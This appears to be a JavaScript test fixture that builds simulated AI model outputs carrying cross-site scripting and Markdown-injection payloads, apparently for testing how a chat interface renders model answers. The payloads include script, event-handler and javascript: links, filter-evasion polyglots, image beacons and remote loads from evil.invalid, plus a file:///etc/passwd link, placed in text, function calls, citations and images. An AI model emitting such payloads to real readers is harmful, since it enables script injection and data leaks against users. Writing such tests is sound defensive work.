// Outputs a model could be made to give in order to act in the page of whoever
// reads it. Those that run call pwn or alert; those that call out name evil.invalid.

const VECTORS = [
  `<script>pwn(1)</script>`,
  `<script src=https://evil.invalid/a.js></script>`,
  `<script type=module>import("https://evil.invalid/m.js")</script>`,
  `<img src=x onerror=pwn(2)>`,
  `<img src="https://evil.invalid/q?leak=1">`,
  `<img srcset="https://evil.invalid/a 1x, https://evil.invalid/b 2x">`,
  `<svg onload=pwn(3)></svg>`,
  `<svg><script>pwn(4)</script></svg>`,
  `<svg><a xlink:href="javascript:pwn(5)"><text y=20>click</text></a></svg>`,
  `<svg><use href="https://evil.invalid/s.svg#x"/></svg>`,
  `<svg><animate onbegin=pwn(6) attributeName=x dur=1s>`,
  `<svg><style>{font-family:'<img/src=x onerror=pwn(7)>'}</style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=pwn(8)>">`,
  `<iframe src="javascript:pwn(9)"></iframe>`,
  `<iframe srcdoc="<script>parent.pwn(10)</script>"></iframe>`,
  `<iframe src=https://evil.invalid/></iframe>`,
  `<object data="https://evil.invalid/o.swf"></object>`,
  `<embed src="javascript:pwn(11)">`,
  `<video src=https://evil.invalid/v.mp4 autoplay onerror=pwn(12)></video>`,
  `<audio src=x onerror=pwn(13)></audio>`,
  `<video poster=https://evil.invalid/p.png></video>`,
  `<body onload=pwn(14)>`,
  `<details open ontoggle=pwn(15)><summary>x</summary></details>`,
  `<input autofocus onfocus=pwn(16)>`,
  `<select autofocus onfocus=pwn(17)></select>`,
  `<marquee onstart=pwn(18)>x</marquee>`,
  `<a href="javascript:pwn(19)" id=x>link</a>`,
  `<a href="data:text/html,<script>opener.pwn(20)</script>">x</a>`,
  `<form action=https://evil.invalid/><input name=a><button autofocus>x</button></form>`,
  `<meta http-equiv=refresh content="0;url=https://evil.invalid/">`,
  `<link rel=stylesheet href=https://evil.invalid/s.css>`,
  `<link rel=prefetch href=https://evil.invalid/p>`,
  `<base href=https://evil.invalid/>`,
  `<style>@import 'https://evil.invalid/i.css';</style>`,
  `<div style="background:url(https://evil.invalid/b.png)">x</div>`,
  `<p style="animation-name:x" onanimationstart=pwn(21)>`,
  `<template><img src=x onerror=pwn(22)></template>`,
  `<noscript><p title="</noscript><img src=x onerror=pwn(23)>"></noscript>`,
  `<textarea></textarea><img src=x onerror=pwn(24)>`,
  `</textarea></script></style></title></pre></code><img src=x onerror=pwn(25)>`,
  `"'><img src=x onerror=pwn(26)>`,
  `" autofocus onfocus=pwn(27) x="`,
  `' onmouseover='pwn(28)`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=pwn(29) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=pwn(30)//>\\x3e`,
  `--><!-- --><svg/onload=pwn(31)>`,
  `]]><img src=x onerror=pwn(32)>`,
  `{{constructor.constructor('pwn(33)')()}}`,
  `\${pwn(34)}`,
  `&lt;img src=x onerror=pwn(35)&gt;`,
  `&#60;script&#62;pwn(36)&#60;/script&#62;`,
  `\\u003cscript\\u003epwn(37)\\u003c/script\\u003e`,
  `<ScRiPt>alert(38)</sCrIpT>`,
  `<script\\x20>alert(39)</script>`,
  `<<script>alert(40);//<</script>`,
  `<img/src=\`x\`/onerror=alert\`41\`>`,
  `<custom-element onclick=alert(42) tabindex=0 autofocus onfocus=alert(43)>`,
  `<dialog open onclose=pwn(44)><button formmethod=dialog autofocus>x</button></dialog>`,
  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=pwn(45)>x</div>`,
  `\u202e<img src=x onerror=pwn(46)>\u0000<script>pwn(47)</script>`,
  `+ADw-script+AD4-pwn(48)+ADw-/script+AD4-`,
];

// Where Markdown could make more of a text than there is.
const MARKDOWN = [
  `[click](javascript:pwn(50))`,
  `[click]( javascript:pwn(51))`,
  `[click](JaVaScRiPt:pwn(52))`,
  `[click](java\tscript:pwn(53))`,
  `[click](&#106;avascript:pwn(54))`,
  `[click](data:text/html;base64,PHNjcmlwdD5wd24oNTUpPC9zY3JpcHQ+)`,
  `[click](vbscript:pwn(56))`,
  `[click](blob:https://evil.invalid/57)`,
  `[click](file:///etc/passwd)`,
  `[click](//evil.invalid/58)`,
  `[click](https://evil.invalid/"onmouseover="pwn(59))`,
  `[a](https://evil.invalid/ "title" onclick=pwn(60))`,
  `![x](https://evil.invalid/i.png?q=secret)`,
  `![x](x"onerror="pwn(61))`,
  `![x](data:image/svg+xml,<svg onload=pwn(62)>)`,
  `![x][ref]\n\n[ref]: https://evil.invalid/r.png`,
  `[x][ref]\n\n[ref]: javascript:pwn(63)`,
  `<javascript:pwn(64)>`,
  `<https://evil.invalid/autolink>`,
  `[<img src=x onerror=pwn(65)>](https://evil.invalid/)`,
  `[![x](https://evil.invalid/y.png)](https://evil.invalid/)`,
  `| <img src=x onerror=pwn(66)> | b |\n|---|---|\n| <svg onload=pwn(67)> | [x](javascript:pwn(68)) |`,
  `# <img src=x onerror=pwn(69)>`,
  `- <img src=x onerror=pwn(70)>\n  - <script>pwn(71)</script>`,
  `> <iframe src=javascript:pwn(72)>`,
  "```html\n<script>pwn(73)</script>\n```",
  "```\"><img src=x onerror=pwn(74)>\nx\n```",
  "```mermaid\ngraph TD; A[<img src=x onerror=pwn(75)>]\n```",
  "`<img src=x onerror=pwn(76)>`",
  "**<img src=x onerror=pwn(77)>** _<svg onload=pwn(78)>_ ~~<script>pwn(79)</script>~~",
  "$$\\href{javascript:pwn(80)}{x}$$",
  "$\\unicode{<img src=x onerror=pwn(81)>}$",
  "[^1]\n\n[^1]: <img src=x onerror=pwn(82)>",
  "https://evil.invalid/\"onmouseover=pwn(83)",
  "http://evil.invalid@good.invalid/<script>pwn(84)</script>",
  "<https://a.invalid/\" onclick=pwn(85)>",
  "[x](https://evil.invalid/#\u202eexe)",
  "- [ ] <input onfocus=pwn(86) autofocus>",
  "\\<script>pwn(87)\\</script>",
  "<!-- --!><img src=x onerror=pwn(88)> -->",
];

// Pieces of the places in an answer, each with text put in.
const text = (t) => [{ text: t }];
const PLACES = {
  text,
  thought: (t) => [{ text: t, thought: true }, { text: "done" }],
  "name of a function": (t) => [{ functionCall: { name: t.slice(0, 60), args: {} } }],
  "arguments of a function": (t) => [{ functionCall: { name: "f", args: { [t]: t } } }],
  JSON: (t) => [{ text: JSON.stringify({ [t]: [t] }) }],
  "text in a code block": (t) => [{ text: `\`\`\`html\n${t}\n` }],
};

// outputs are { name, payload, parts, citation, error }: answers of the model.
export function outputs() {
  const all = [];
  for (const payload of [...VECTORS, ...MARKDOWN]) all.push({ name: "text", payload, parts: text(payload) });
  const rest = Object.entries(PLACES).slice(1);
  for (const [i, payload] of VECTORS.entries()) {
    for (const k of [0, 1]) {
      const [name, parts] = rest[(i * 2 + k) % rest.length];
      all.push({ name, payload, parts: parts(payload) });
    }
  }
  for (const payload of VECTORS.slice(0, 16)) all.push({ name: "error", payload, error: payload });
  for (const payload of [...VECTORS.slice(0, 8), "javascript:pwn(90)"]) {
    all.push({ name: "citation", payload, parts: text("cited"), citation: { uri: payload.startsWith("java") ? payload : `https://evil.invalid/${payload}`, title: payload } });
  }
  for (const payload of [`image/svg+xml`, `text/html`, `image/png" onerror="pwn(91)`]) {
    all.push({ name: "picture", payload, parts: [{ inlineData: { mimeType: payload, data: Buffer.from("<svg xmlns='http://www.w3.org/2000/svg' onload='pwn(92)'/>").toString("base64") } }] });
  }
  return all;
}
